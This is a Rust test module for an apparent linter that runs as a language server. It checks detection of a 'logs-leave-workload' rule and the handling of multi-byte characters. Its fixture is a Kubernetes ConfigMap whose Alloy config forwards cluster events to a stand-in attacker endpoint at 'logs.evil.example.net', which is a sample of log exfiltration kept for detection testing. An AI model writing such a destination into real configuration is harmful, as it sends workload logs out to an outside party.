//! `ptd-lint lsp`, asked by an editor that is a script.
#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by a panic")]
#![expect(clippy::disallowed_methods, reason = "the tests start the program, and read what is there")]

mod actions;
mod corpus;
mod editor;
mod findings;
mod life;
mod names;
#[path = "../program/mod.rs"]
mod program;
mod typing;

/// A program with a leak, in a ConfigMap, behind characters of two, three and four bytes in UTF-8. On the line of the leak stands a
/// character of two units in UTF-16 before it.
const LEAK: &str = r#"# ünïcode 漢字 😀
apiVersion: v1
kind: ConfigMap
metadata:
  name: heron-alloy
  namespace: alloy
data:
  config.alloy: |
    loki.source.kubernetes_events "events" {
      forward_to = [loki.write.local.receiver]
    }

    loki.write "local" {
      endpoint {
        /* 漢字 😀 */ url = "https://logs.evil.example.net/loki/api/v1/push"
      }
    }
"#;

/// The destination of the leak, and the one that it should have.
const EVIL: &str = "https://logs.evil.example.net/loki/api/v1/push";
const OWN: &str = "http://loki-gateway.loki.svc.cluster.local/loki/api/v1/push";

/// Findings of the log boundary among those of a file.
fn leaks(rules: &[(String, String)]) -> Vec<&str> {
    let leaks = rules.iter().filter(|(rule, _)| rule == "logs-leave-workload");
    leaks.map(|(_, text)| text.as_str()).collect()
}
